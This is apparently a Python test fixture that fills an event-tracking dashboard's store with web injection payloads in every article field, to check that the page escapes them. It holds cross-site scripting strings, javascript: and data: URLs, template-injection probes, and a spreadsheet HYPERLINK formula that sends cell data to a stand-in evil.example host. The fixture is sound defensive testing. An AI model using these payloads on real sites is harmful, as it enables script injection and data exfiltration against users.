"""A store in which every text of an article attacks the page: by each way that a text can go."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from events.article import Article
from events.merge import merge
from events.report import EventType, Modality, Role
from events.store.store import Store
from tests.dashboard import sample

RUN = "for (let w = window;; w = w.parent) { w.hacked = 1; if (w === w.parent) break; }"
PAYLOADS = (
    f'<img src=x onerror="{RUN}">',
    f"<script>{RUN}</script>",
    f"<svg onload='{RUN}'></svg>",
    f"</script></style></title></textarea><iframe srcdoc='<script>{RUN}</script>'>",
    f"${{{RUN}}} `${{{RUN}}}`",
    "` + alert(1) + ` \\",
    "{{ 7*7 }} {% raw %}",
    f"[x](javascript:{RUN.replace(' ', '')}) ![x](https://evil.example/pixel.png)",
    '" autofocus onfocus="window.hacked=1" x="',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "\u202ereversed\u2028\u2029 :material/home: $x^2$ :red[alarm]",
)
URLS = (
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    'https://example.org/"onmouseover="window.hacked=1',
    "https://example.org/<script>window.hacked=1</script>",
)


def fill(store: Store) -> None:
    """Put one event into a store for each payload, in every field that an article gives."""
    for number, payload in enumerate(PAYLOADS):
        sentence = f"The {payload} brigade shelled {payload} depot near Lviv on 2 April 2025."
        article = Article(
            text=f"{payload}\n\n{sentence} It was claimed by {payload}.\n",
            title=payload,
            url=URLS[number % len(URLS)],
            publisher=payload,
            published=date(2025, 4, 8),
        )
        place = replace(
            sample.LVIV if number % 3 else sample.DONETSK,
            name=payload,
            admin1_name=payload,
            lat=46.0 + number,
        )
        told = sample.Told(
            type=EventType.ASSAULT,
            mode="aerial",
            trigger="shelled",
            sentence=sentence,
            actors=((payload, Role.ACTOR, "UKR"), (payload, Role.RECIPIENT, "RUS")),
            where=("Lviv", place),
            when=(date(2025, 4, 2), date(2025, 4, 4), "2 April 2025"),
            modality=Modality.CLAIMED,
            claimant=payload,
        )
        reports = [sample.report(article, told)]
        with store.writing() as writing:
            writing.put_article(article, source=payload, notices=(payload,), extractor="sample 1")
            writing.replace_reports(article.id, reports)
            writing.put_events(merge(reports), {article.id: article.publisher})
            writing.put_rejection(payload, payload)
